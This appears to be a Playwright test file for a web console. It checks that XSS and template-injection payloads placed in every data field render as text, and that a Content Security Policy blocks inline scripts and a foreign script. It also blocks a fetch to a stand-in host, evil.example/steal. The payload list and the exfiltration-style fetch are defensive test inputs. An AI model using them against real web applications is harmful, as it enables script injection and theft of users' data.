import type { Page } from "@playwright/test";
import { loadDialect } from "../../fixtures/dialect/load.ts";
import { worldSchema, type World } from "../../fixtures/worlds/world.ts";
import { expect, test } from "./console.fixture.ts";

/** Each would set `window.broken` if it were not treated as text. */
const attacks = [
  "<img src=x onerror=broken=1>",
  "</script><script>broken=1</script>",
  '"><svg onload=broken=1>',
  "javascript:broken=1",
  "{{constructor.constructor('broken=1')()}}",
  "${broken=1}",
  "<a href=javascript:broken=1>x</a>",
  "\u2028broken=1//",
  "__proto__",
] as const;

const text = attacks.join(" ");

/** A world in which every text is an attack. */
function hostileWorld(): World {
  const record = (id: string): object => ({
    id,
    email: text,
    name: text,
    number: text,
    status: text,
    [text]: { [text]: [text] },
    dangerouslySetInnerHTML: { __html: text },
  });
  const records = attacks.map(record);
  return worldSchema.parse({
    name: text,
    description: text,
    accounts: [
      { id: text, name: text, tokens: ["hostile-token-1"], users: records, subscriptions: records, invoices: records },
    ],
  });
}

/** No script ran, and everything is text. */
async function expectUnbroken(page: Page): Promise<void> {
  expect(await page.evaluate(() => "broken" in window)).toBe(false);
  expect(await page.locator("img, iframe, object, embed, a[href^='javascript:' i]").count()).toBe(0);
}

test.describe("a world full of scripts", () => {
  test.use({ world: hostileWorld(), dialect: { ...loadDialect("reference"), name: text, description: text } });

  test("is shown as text on every page of the console", async ({ mock, open }) => {
    const headers = { "content-type": "application/json", "x-note": text };
    const token = "hostile-token-1";
    const body = JSON.stringify({ email: text, name: text, [text]: text });
    await mock.call({ token, method: "POST", headers, body });
    await mock.call({ token, query: `page=${text}`, headers: { ...headers, prefer: `scenario=${text}` } });
    await mock.call({ method: text, path: `/api/v1/${text}`, headers: { authorization: `Bearer ${text}` } });
    await mock.call({ token, path: `/api/v1/subscriptions/${encodeURIComponent(attacks[0])}`, headers });

    const { page, calls, detail } = await open();
    await expect(calls).toHaveCount(4);
    for (const index of [0, 1, 2, 3]) {
      await calls.nth(index).click();
      for (const headersOf of await page.getByText(/^\d+ headers$/).all()) await headersOf.click();
      await expectUnbroken(page);
    }
    await expect(detail).toContainText(attacks[0]);
    for (const tab of ["world", "scenarios", "accounts", "clock"]) {
      await open(`#${tab}`);
      await expect(page.getByRole("main").getByRole("region").first()).toBeVisible();
      await expectUnbroken(page);
    }
    await open("#world");
    await expect(page.getByRole("cell", { name: text, exact: true }).first()).toBeVisible();
    await page
      .getByRole("button", { name: /^Edit / })
      .first()
      .click();
    await expect(page.getByLabel("The user as JSON")).toHaveValue(/onerror=broken/);
    await page.keyboard.press("Escape");
    // Text in an address is only text, too.
    await open(`#world/${encodeURIComponent(text)}/users`);
    await open(`#token=${encodeURIComponent(text)}`);
    await expectUnbroken(page);
  });
});

test.describe("an injected script", () => {
  test.use({ allowedComplaints: /Content Security Policy|^asked https:\/\/evil\.example\/x\.js$/ });

  test("is blocked by the page's policy, wherever it is", async ({ open }) => {
    const { page } = await open();
    const blocked = await page.evaluate(async () => {
      const seen: string[] = [];
      const all = new Promise<void>((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          if (seen.push(effectiveDirective) === 4) resolve();
        });
      });
      const inline = document.createElement("script");
      inline.textContent = "window.broken = 1";
      const foreign = document.createElement("script");
      foreign.src = "https://evil.example/x.js";
      const button = document.createElement("div");
      button.innerHTML = '<button onclick="window.broken = 1">x</button>';
      document.body.append(inline, foreign, button);
      button.querySelector("button")?.click();
      const stolen = await fetch("https://evil.example/steal").then(
        () => "sent",
        () => "refused",
      );
      await all;
      return { seen: seen.toSorted(), stolen, isBroken: "broken" in window };
    });
    expect(blocked).toStrictEqual({
      seen: ["connect-src", "script-src-attr", "script-src-elem", "script-src-elem"],
      stolen: "refused",
      isBroken: false,
    });
  });
});
